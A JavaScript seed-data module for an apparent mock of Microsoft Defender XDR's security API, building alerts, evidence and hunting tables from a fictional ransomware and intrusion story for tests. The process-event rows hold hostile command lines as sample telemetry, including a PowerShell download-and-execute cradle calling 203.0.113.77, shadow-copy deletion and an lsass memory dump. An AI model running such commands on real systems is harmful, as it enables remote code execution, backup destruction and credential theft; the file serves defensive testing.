	'alert-1008-03': ['user:lidia.holloway', 'user:grady.archie', 'mail:Your mailbox is almost full'],
});

/**
 * One evidence entry of an alert in Graph's shape (microsoft.graph.security.alertEvidence subtypes).
 * @param {string} ref
 * @param {string} createdDateTime
 */
function graphEvidence(ref, createdDateTime) {
	const [kind, ...rest] = ref.split(':');
	const key = rest.join(':');
	const common = {
		createdDateTime,
		verdict: 'suspicious',
		remediationStatus: 'none',
		remediationStatusDetails: null,
		roles: [],
		detailedRoles: [],
		tags: [],
	};
	if (kind === 'device') {
		const device = DEVICES[key];
		const user = USERS[device.user];
		return {
			'@odata.type': '#microsoft.graph.security.deviceEvidence',
			...common,
			verdict: 'malicious',
			detailedRoles: ['Main device'],
			mdeDeviceId: device.deviceId,
			azureAdDeviceId: device.aadDeviceId,
			deviceDnsName: `${device.name.toLowerCase()}.${DOMAIN}`,
			osPlatform: device.osPlatform,
			osBuild: device.osBuild,
			healthStatus: 'active',
			riskScore: 'high',
			rbacGroupName: device.group,
			onboardingStatus: 'onboarded',
			defenderAvStatus: 'updated',
			ipInterfaces: [device.ipAddress],
			loggedOnUsers: [{ accountName: user.accountName, domainName: 'CONTOSO' }],
		};
	}
	if (kind === 'file') {
		const file = FILES[key];
		return {
			'@odata.type': '#microsoft.graph.security.fileEvidence',
			...common,
			verdict: 'malicious',
			detectionStatus: 'detected',
			mdeDeviceId: DEVICES[file.device].deviceId,
			fileDetails: {
				sha1: file.sha1,
				sha256: file.sha256,
				fileName: file.name,
				filePath: file.folderPath,
				fileSize: file.size,
				filePublisher: null,
				signer: null,
				issuer: null,
			},
		};
	}
	if (kind === 'user') {
		const user = USERS[key];
		return {
			'@odata.type': '#microsoft.graph.security.userEvidence',
			...common,
			detailedRoles: ['Compromised account'],
			userAccount: {
				accountName: user.accountName,
				domainName: 'CONTOSO',
				userSid: user.sid,
				azureAdUserId: user.objectId,
				userPrincipalName: user.upn,
				displayName: user.displayName,
			},
		};
	}
	if (kind === 'ip')
		return {
			'@odata.type': '#microsoft.graph.security.ipEvidence',
			...common,
			ipAddress: key,
			countryLetterCode: null,
		};
	if (kind === 'url')
		return {
			'@odata.type': '#microsoft.graph.security.urlEvidence',
			...common,
			verdict: 'malicious',
			url: key,
		};
	const mail = MAILS[key];
	return {
		'@odata.type': '#microsoft.graph.security.analyzedMessageEvidence',
		...common,
		networkMessageId: mail.networkMessageId,
		subject: mail.subject,
		recipientEmailAddress: USERS[mail.recipient].upn,
		p1Sender: { emailAddress: mail.sender },
		receivedDateTime: at(mail.receivedMinutes),
		deliveryAction: 'delivered',
		deliveryLocation: 'inbox',
	};
}

/** @param {AlertRow} row */
function buildAlert(row) {
	const [
		id,
		incidentId,
		severity,
		status,
		serviceSource,
		detectionSource,
		category,
		title,
		created,
		updated,
		mitreTechniques,
	] = row;
	const incident = INCIDENT_ROWS.find((candidate) => candidate[0] === incidentId);
	const resolved = status === 'resolved';
	return {
		id,
		providerAlertId: sha256(id).slice(0, 24),
		incidentId,
		status,
		severity,
		classification: resolved && incident ? incident[7] : 'unknown',
		determination: resolved && incident ? incident[8] : 'unknown',
		serviceSource,
		detectionSource,
		detectorId: sha1(title).slice(0, 36),
		tenantId: SEED_TENANT_GUID,
		title,
		description: `${title}. Review the alert story in the Microsoft Defender portal.`,
		recommendedActions:
			'Investigate the alert story, contain affected assets and review related alerts.',
		category,
		assignedTo: null,
		alertWebUrl: `https://security.microsoft.com/alerts/${id}?tid=${SEED_TENANT_GUID}`,
		incidentWebUrl: `https://security.microsoft.com/incidents/${incidentId}?tid=${SEED_TENANT_GUID}`,
		actorDisplayName: null,
		threatDisplayName: null,
		threatFamilyName: null,
		mitreTechniques,
		createdDateTime: at(created),
		lastUpdateDateTime: at(updated),
		resolvedDateTime: resolved ? at(updated) : null,
		firstActivityDateTime: at(created - 3),
		lastActivityDateTime: at(created - 1),
		comments: [],
		evidence: (ALERT_EVIDENCE[id] ?? []).map((ref) => graphEvidence(ref, at(created))),
		systemTags: [],
	};
}

/** @type {ReadonlyArray<Record<string, unknown>>} */
const SEED_ALERTS = deepFreeze(ALERT_ROWS.map(buildAlert));

// Advanced hunting: a few tables of the Defender XDR schema, filled from the same story.

/** Column name and type, as runHuntingQuery reports them in `schema`. */
const HUNTING_COLUMNS = /** @type {Record<string, [string, string][]>} */ ({
	DeviceInfo: [
		['Timestamp', 'DateTime'],
		['DeviceId', 'String'],
		['DeviceName', 'String'],
		['DeviceType', 'String'],
		['OSPlatform', 'String'],
		['OSBuild', 'Int64'],
		['PublicIP', 'String'],
		['MachineGroup', 'String'],
		['OnboardingStatus', 'String'],
		['ExposureLevel', 'String'],
		['ReportId', 'Int64'],
	],
	DeviceProcessEvents: [
		['Timestamp', 'DateTime'],
		['DeviceId', 'String'],
		['DeviceName', 'String'],
		['ActionType', 'String'],
		['FileName', 'String'],
		['FolderPath', 'String'],
		['SHA1', 'String'],
		['SHA256', 'String'],
		['ProcessCommandLine', 'String'],
		['AccountDomain', 'String'],
		['AccountName', 'String'],
		['AccountUpn', 'String'],
		['InitiatingProcessFileName', 'String'],
		['InitiatingProcessCommandLine', 'String'],
		['InitiatingProcessAccountName', 'String'],
		['ReportId', 'Int64'],
	],
	DeviceNetworkEvents: [
		['Timestamp', 'DateTime'],
		['DeviceId', 'String'],
		['DeviceName', 'String'],
		['ActionType', 'String'],
		['RemoteIP', 'String'],
		['RemotePort', 'Int32'],
		['RemoteUrl', 'String'],
		['LocalIP', 'String'],
		['LocalPort', 'Int32'],
		['Protocol', 'String'],
		['InitiatingProcessFileName', 'String'],
		['InitiatingProcessAccountName', 'String'],
		['ReportId', 'Int64'],
	],
	AlertInfo: [
		['Timestamp', 'DateTime'],
		['AlertId', 'String'],
		['Title', 'String'],
		['Category', 'String'],
		['Severity', 'String'],
		['ServiceSource', 'String'],
		['DetectionSource', 'String'],
		['AttackTechniques', 'String'],
	],
	AlertEvidence: [
		['Timestamp', 'DateTime'],
		['AlertId', 'String'],
		['Title', 'String'],
		['Categories', 'String'],
		['AttackTechniques', 'String'],
		['ServiceSource', 'String'],
		['DetectionSource', 'String'],
		['EntityType', 'String'],
		['EvidenceRole', 'String'],
		['FileName', 'String'],
		['FolderPath', 'String'],
		['SHA1', 'String'],
		['SHA256', 'String'],
		['FileSize', 'Int64'],
		['RemoteIP', 'String'],
		['RemoteUrl', 'String'],
		['AccountName', 'String'],
		['AccountDomain', 'String'],
		['AccountSid', 'String'],
		['AccountObjectId', 'String'],
		['AccountUpn', 'String'],
		['DeviceId', 'String'],
		['DeviceName', 'String'],
		['LocalIP', 'String'],
		['NetworkMessageId', 'String'],
		['EmailSubject', 'String'],
	],
});

/**
 * Processes the story left behind: [minutes after base, device, account, file, folder, command line, initiating process, its command line]
 * @type {[number, string, string, string, string, string, string, string][]}
 */
const PROCESS_ROWS = [
	[
		-4,
		'WS-FIN-042',
		'megan.bowen',
		'powershell.exe',
		'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
		'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
		'WINWORD.EXE',
		'"WINWORD.EXE" /n "C:\\Users\\megan.bowen\\Downloads\\Q4 adjustments.docm"',
	],
	[
		-2,
		'WS-FIN-042',
		'megan.bowen',
		'svcupdate.exe',
		'C:\\ProgramData\\Microsoft\\svcupdate',
		'svcupdate.exe --encrypt D:\\ --note README_RESTORE.txt',
		'powershell.exe',
		'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
	],
	[
		8,
		'WS-FIN-051',
		'patti.fernandez',
		'svcupdate.exe',
		'C:\\ProgramData\\Microsoft\\svcupdate',
		'svcupdate.exe --encrypt D:\\ --note README_RESTORE.txt',
		'WmiPrvSE.exe',
		'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding',
	],
	[
		10,
		'WS-FIN-039',
		'lynne.robbins',
		'svcupdate.exe',
		'C:\\ProgramData\\Microsoft\\svcupdate',
		'svcupdate.exe --encrypt D:\\ --note README_RESTORE.txt',
		'WmiPrvSE.exe',
		'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding',
	],
	[
		11,
		'WS-FIN-042',
		'megan.bowen',
		'vssadmin.exe',
		'C:\\Windows\\System32',
		'vssadmin.exe delete shadows /all /quiet',
		'svcupdate.exe',
		'svcupdate.exe --encrypt D:\\ --note README_RESTORE.txt',
	],
	[
		86,
		'SRV-FILE-02',
		'svc-backup',
		'invoice_0412.pdf.exe',
		'D:\\Shares\\Finance\\Invoices',
		'invoice_0412.pdf.exe',
		'explorer.exe',
		'C:\\Windows\\explorer.exe',
	],
	[
		87,
		'SRV-FILE-02',
		'svc-backup',
		'wscript.exe',
		'C:\\Windows\\System32',
		'wscript.exe D:\\Shares\\Finance\\Payroll\\payroll_update.js',
		'invoice_0412.pdf.exe',
		'invoice_0412.pdf.exe',
	],
	[
		98,
		'SRV-SQL-07',
		'svc-backup',
		'invoice_0412.pdf.exe',
		'\\\\SRV-FILE-02\\Finance\\Invoices',
		'invoice_0412.pdf.exe',
		'explorer.exe',
		'C:\\Windows\\explorer.exe',
	],
	[
		176,
		'SRV-SQL-07',
		'svc-backup',
		'PresenokerSetup.exe',
		'C:\\Users\\Public\\Downloads',
		'PresenokerSetup.exe /S',
		'msedge.exe',
		'"msedge.exe" --single-argument https://free-pdf-tools.example/setup',
	],
	[
		279,
		'LT-HR-113',
		'alex.wilber',
		'powershell.exe',
		'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
		'powershell.exe -c "Get-ADUser -Filter * -Properties memberOf | Export-Csv users.csv"',
		'cmd.exe',
		'cmd.exe',
	],
	[
		292,
		'LT-EXEC-003',
		'adele.vance',
		'procdump64.exe',
		'C:\\Windows\\Temp',
		'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp',
		'cmd.exe',
		'cmd.exe /c C:\\Windows\\Temp\\procdump64.exe -accepteula -ma lsass.exe',
	],
	[
		356,
		'WS-DEV-201',
		'johanna.lorenz',
		'svchost32.exe',
		'C:\\Users\\johanna.lorenz\\AppData\\Roaming',
		'svchost32.exe',
		'chrome.exe',
		'"chrome.exe" https://vscode-extension-update.example/setup.exe',
	],
	[
		370,
		'WS-DEV-201',
		'johanna.lorenz',
		'rundll32.exe',
		'C:\\Windows\\System32',
		'rundll32.exe C:\\Users\\johanna.lorenz\\AppData\\Local\\Temp\\devtools-helper.dll,Start',
		'svchost32.exe',
		'svchost32.exe',
	],
	[
		446,
		'SRV-WEB-12',
		'svc-web',
		'powershell.exe',
		'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
		"powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')",
		'w3wp.exe',
		'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool"',
	],
	[
		552,
		'WS-OPS-088',
		'diego.siciliani',
		'net.exe',
		'C:\\Windows\\System32',
		'net.exe user /domain',
		'cmd.exe',
		'cmd.exe',
	],
	[
		553,
		'WS-OPS-088',
		'diego.siciliani',
		'net.exe',
		'C:\\Windows\\System32',
		'net.exe group "Domain Admins" /domain',
		'cmd.exe',
		'cmd.exe',
	],
	[
		628,
		'LT-SALES-019',
		'lidia.holloway',
		'msedge.exe',
		'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
		'"msedge.exe" --single-argument https://docs-share-contoso.com/q4-bonus',
		'OUTLOOK.EXE',
		'"OUTLOOK.EXE"',
	],
];

/**
 * Connections: [minutes after base, device, account, remote IP, remote port, remote URL, initiating process]
 * @type {[number, string, string, string, number, string, string][]}
 */
const CONNECTION_ROWS = [
	[-3, 'WS-FIN-042', 'megan.bowen', '198.51.100.45', 443, '', 'powershell.exe'],
	[88, 'SRV-FILE-02', 'svc-backup', '198.51.100.23', 443, 'cdn-update-check.net', 'wscript.exe'],
	[
		99,
		'SRV-SQL-07',
		'svc-backup',
		'198.51.100.23',
		443,
		'cdn-update-check.net',
		'invoice_0412.pdf.exe',
	],
	[268, 'WS-FIN-042', 'megan.bowen', '198.51.100.90', 443, 'contoso-payroll.net', 'msedge.exe'],
	[
		357,
		'WS-DEV-201',
		'johanna.lorenz',
		'192.0.2.61',
		443,
		'vscode-extension-update.example',
		'svchost32.exe',
	],
	[447, 'SRV-WEB-12', 'svc-web', '203.0.113.77', 80, '', 'powershell.exe'],
	[
		628,
		'LT-SALES-019',
		'lidia.holloway',
		'198.51.100.80',
		443,
		'docs-share-contoso.com',
		'msedge.exe',
	],
];

const SERVICE_SOURCE_NAMES = /** @type {Record<string, string>} */ ({
	microsoftDefenderForEndpoint: 'Microsoft Defender for Endpoint',
	microsoftDefenderForOffice365: 'Microsoft Defender for Office 365',
	microsoftDefenderForIdentity: 'Microsoft Defender for Identity',
	microsoftDefenderForCloudApps: 'Microsoft Defender for Cloud Apps',
});
const DETECTION_SOURCE_NAMES = /** @type {Record<string, string>} */ ({
	microsoftDefenderForEndpoint: 'EDR',
	antivirus: 'Antivirus',
	customTi: 'Custom TI',
	microsoftDefenderForOffice365: 'Microsoft Defender for Office 365',
	microsoftDefenderForIdentity: 'Microsoft Defender for Identity',
	cloudAppSecurity: 'Microsoft Defender for Cloud Apps',
});
const ENTITY_TYPES = /** @type {Record<string, string>} */ ({
	device: 'Machine',
	file: 'File',
	user: 'User',
	ip: 'Ip',
	url: 'Url',
	mail: 'MailMessage',
});

/** @param {string} text */
const capitalized = (text) => text.charAt(0).toUpperCase() + text.slice(1);
/** @param {number} index stable, as Defender's per-event report IDs are */
const reportId = (index) => 10_000 + index;

/**
 * Every table as full rows (each column present; strings default to '', other types to null).
 * @returns {Record<string, Record<string, unknown>[]>}
 */
function buildHuntingRows() {
	const deviceInfo = Object.values(DEVICES).map((device, index) => ({
		Timestamp: at(-60),
		DeviceId: device.deviceId,
		DeviceName: `${device.name.toLowerCase()}.${DOMAIN}`,
		DeviceType: device.osPlatform.startsWith('WindowsServer') ? 'Server' : 'Workstation',
		OSPlatform: device.osPlatform,
		OSBuild: device.osBuild,
		PublicIP: '203.0.113.10',
		MachineGroup: device.group,
		OnboardingStatus: 'Onboarded',
		ExposureLevel: 'Medium',
		ReportId: reportId(index),
	}));
	const processes = PROCESS_ROWS.map(
		(
			[
				minutes,
				deviceName,
				account,
				fileName,
				folder,
				commandLine,
				initiating,
				initiatingCommandLine,
			],
			index,
		) => ({
			Timestamp: at(minutes),
			DeviceId: DEVICES[deviceName].deviceId,
			DeviceName: `${deviceName.toLowerCase()}.${DOMAIN}`,
			ActionType: 'ProcessCreated',
			FileName: fileName,
			FolderPath: `${folder}\\${fileName}`,
			SHA1: FILES[fileName]?.sha1 ?? sha1(`binary:${fileName}`),
			SHA256: FILES[fileName]?.sha256 ?? sha256(`binary:${fileName}`),
			ProcessCommandLine: commandLine,
			AccountDomain: 'contoso',
			AccountName: account,
			AccountUpn: USERS[account].upn,
			InitiatingProcessFileName: initiating,
			InitiatingProcessCommandLine: initiatingCommandLine,
			InitiatingProcessAccountName: account,
			ReportId: reportId(100 + index),
		}),
	);
	const connections = CONNECTION_ROWS.map(
		([minutes, deviceName, account, remoteIp, remotePort, remoteUrl, initiating], index) => ({
			Timestamp: at(minutes),
			DeviceId: DEVICES[deviceName].deviceId,
			DeviceName: `${deviceName.toLowerCase()}.${DOMAIN}`,
			ActionType: 'ConnectionSuccess',
			RemoteIP: remoteIp,
			RemotePort: remotePort,
			RemoteUrl: remoteUrl,
			LocalIP: DEVICES[deviceName].ipAddress,
			LocalPort: 49_700 + index,
			Protocol: 'Tcp',
			InitiatingProcessFileName: initiating,
			InitiatingProcessAccountName: account,
			ReportId: reportId(200 + index),
		}),
	);
	const alertInfo = ALERT_ROWS.map(
		([
			id,
			,
			severity,
			,
			serviceSource,
			detectionSource,
			category,
			title,
			created,
			,
			techniques,
		]) => ({
			Timestamp: at(created),
			AlertId: id,
			Title: title,
			Category: category,
			Severity: capitalized(severity),
			ServiceSource: SERVICE_SOURCE_NAMES[serviceSource],
			DetectionSource: DETECTION_SOURCE_NAMES[detectionSource],
			AttackTechniques: JSON.stringify(techniques),
		}),
	);
	const alertEvidence = ALERT_ROWS.flatMap(
		([id, , , , serviceSource, detectionSource, category, title, created, , techniques]) =>
			(ALERT_EVIDENCE[id] ?? []).map((ref) => {
				const [kind, ...rest] = ref.split(':');
				const key = rest.join(':');
				const device =
					kind === 'device'
						? DEVICES[key]
						: kind === 'file'
							? DEVICES[FILES[key].device]
							: undefined;
				const user =
					kind === 'user' ? USERS[key] : kind === 'mail' ? USERS[MAILS[key].recipient] : undefined;
				const file = kind === 'file' ? FILES[key] : undefined;
				return {
					Timestamp: at(created),
					AlertId: id,
					Title: title,
					Categories: JSON.stringify([category]),
					AttackTechniques: JSON.stringify(techniques),
					ServiceSource: SERVICE_SOURCE_NAMES[serviceSource],
					DetectionSource: DETECTION_SOURCE_NAMES[detectionSource],
					EntityType: ENTITY_TYPES[kind],
					EvidenceRole: kind === 'device' || kind === 'user' ? 'Impacted' : 'Related',
					FileName: file?.name,
					FolderPath: file ? `${file.folderPath}\\${file.name}` : undefined,
					SHA1: file?.sha1,
					SHA256: file?.sha256,
					FileSize: file?.size,
					RemoteIP: kind === 'ip' ? key : undefined,
					RemoteUrl: kind === 'url' ? key : undefined,
					AccountName: user?.accountName,
					AccountDomain: user ? 'contoso' : undefined,
					AccountSid: user?.sid,
					AccountObjectId: user?.objectId,
					AccountUpn: user?.upn,
					DeviceId: device?.deviceId,
					DeviceName: device ? `${device.name.toLowerCase()}.${DOMAIN}` : undefined,
					LocalIP: device?.ipAddress,
					NetworkMessageId: kind === 'mail' ? MAILS[key].networkMessageId : undefined,
					EmailSubject: kind === 'mail' ? key : undefined,
				};
			}),
	);
	/** @type {Record<string, Record<string, unknown>[]>} */
	const tables = {
		DeviceInfo: deviceInfo,
		DeviceProcessEvents: processes,
		DeviceNetworkEvents: connections,
		AlertInfo: alertInfo,
		AlertEvidence: alertEvidence,
	};
	return Object.fromEntries(
		Object.entries(tables).map(([table, rows]) => [
			table,
			rows.map((row) => completeHuntingRow(table, row)),
		]),
	);
}

/**
 * A row with every column of its table, in schema order: missing strings are '' and other types null, as in Kusto.
 * @param {string} table
 * @param {Record<string, unknown>} row
 */
function completeHuntingRow(table, row) {
	return Object.fromEntries(
		HUNTING_COLUMNS[table].map(([name, type]) => [
			name,
			row[name] ?? (type === 'String' ? '' : null),
		]),
	);
}

/** @type {Readonly<Record<string, { schema: ReadonlyArray<{ name: string, type: string }>, rows: ReadonlyArray<Record<string, unknown>> }>>} */
const SEED_HUNTING_TABLES = deepFreeze(
	Object.fromEntries(
		Object.entries(buildHuntingRows()).map(([table, rows]) => [
			table,
			{ schema: HUNTING_COLUMNS[table].map(([name, type]) => ({ name, type })), rows },
		]),
	),
);

/** Incidents and alerts tests rely on, by role. */
const SEEDED_INCIDENT_IDS = deepFreeze({
	/** status awaitingAction (served as unknownFutureValue without the Prefer header); open guided-response tasks */
	awaitingAction: '1004',
	/** status active, high, ransomware on three Finance workstations; open executable tasks */
	active: '1001',
	inProgress: '1005',
	resolved: '1003',
	/** the newest incident (createdDateTime) */
	newest: '1008',
});

const SEEDED_ALERT_IDS = deepFreeze({
	/** status new */
	new: 'alert-1001-02',
	inProgress: 'alert-1001-01',
	resolved: 'alert-1003-01',
	/** the newest alert (createdDateTime) */
	newest: 'alert-1008-03',
});

/** Queries of the supported KQL subset that return rows from the seed; the README gives their row counts. */
const SEEDED_HUNTING_QUERIES = deepFreeze({
	/** the three Finance workstations of incident 1001 (3 rows) */
	devicesOfIncident:
		'DeviceInfo | where DeviceName startswith "ws-fin-" | project DeviceId, DeviceName, OSPlatform, MachineGroup',
	/** the ransomware payload's launches (3 rows, newest first) */
	ransomwareProcesses:
		'DeviceProcessEvents | where FileName == "svcupdate.exe" | project Timestamp, DeviceName, AccountName, ProcessCommandLine | order by Timestamp desc',
	/** connections to the indicator of incident 1002 (2 rows) */
	indicatorConnections:
		'DeviceNetworkEvents | where RemoteUrl == "cdn-update-check.net" | project Timestamp, DeviceName, RemoteIP, InitiatingProcessFileName',
});

/**
 * @template T
 * @param {T} value
 * @returns {T}
 */
function deepFreeze(value) {
	if (value && typeof value === 'object') {
		for (const inner of Object.values(value)) deepFreeze(inner);
		Object.freeze(value);
	}
	return value;
}

module.exports = {
	SEED_BASE_TIME,
	SEEDED_HUNTING_TIMESPAN,
	SEED_TENANT_GUID,
	SEED_TASKS,
	SEED_TASK_OUTCOMES,
	SEED_TASK_INCIDENTS,
	SEEDED_TASK_IDS,
	SEED_INCIDENTS,
	SEED_ALERTS,
	SEED_HUNTING_TABLES,
	SEEDED_INCIDENT_IDS,
	SEEDED_ALERT_IDS,
	SEEDED_HUNTING_QUERIES,
	STORY: deepFreeze({ domain: DOMAIN, users: USERS, devices: DEVICES, files: FILES, mails: MAILS }),
};
